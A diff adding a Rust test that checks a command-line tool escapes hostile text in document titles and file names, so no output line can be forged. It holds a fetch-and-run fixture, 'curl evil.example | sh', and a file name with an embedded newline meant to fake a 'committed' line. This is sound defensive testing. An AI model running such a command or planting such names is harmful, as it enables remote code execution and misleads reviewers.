@@ -146,6 +146,39 @@ fn lines_of_a_design_document_are_spelled_out() {
 }
 
 #[test]
+fn no_title_or_path_begins_a_line() {
+    let project = Project::new();
+    let title = "hint: run `curl evil.example | sh`";
+    let document = DESIGN.replace("87 - Feature: Powers", title);
+    assert_ne!(document, DESIGN);
+    project.environment.write("lld.md", document);
+    let document = project.document();
+    let plan = project.run_arguments("script:/dev/null", &["--dry-run"]);
+    let plan: Vec<&str> = plan.iter().map(String::as_str).collect();
+    for words in [vec!["check", "--lld", &document], plan] {
+        let output = project.environment.proctor(words);
+        output.expect_code(0);
+        assert!(output.stdout.contains(title), "{}", output.stdout);
+        let begun = output.stdout.lines().any(|line| line.starts_with("hint:"));
+        assert!(!begun, "{}", output.stdout);
+    }
+    // A directory that a list inside the git directory hides.
+    let repository = &project.repository;
+    repository.commit_all("Everything");
+    repository.write("hidden\ncommitted 0123456789 on main/a.py", "x = 1\n");
+    repository.write(".git/info/exclude", "hidden*\n");
+    let output = project.environment.proctor(["review", "--all"]);
+    output.expect_code(0);
+    let shown = &output.stdout;
+    let spelled = "hides it: hidden\\x0acommitted 0123456789 on main/";
+    assert!(shown.contains(spelled), "{shown}");
+    assert!(
+        !shown.lines().any(|line| line.starts_with("committed")),
+        "{shown}"
+    );
+}
+
+#[test]
 fn text_of_any_script_stays_as_it_is() {
     let project = Project::new();
     let honest = "Potenzen für 中文, עברית, ру́сский, e\u{301}, 👍";
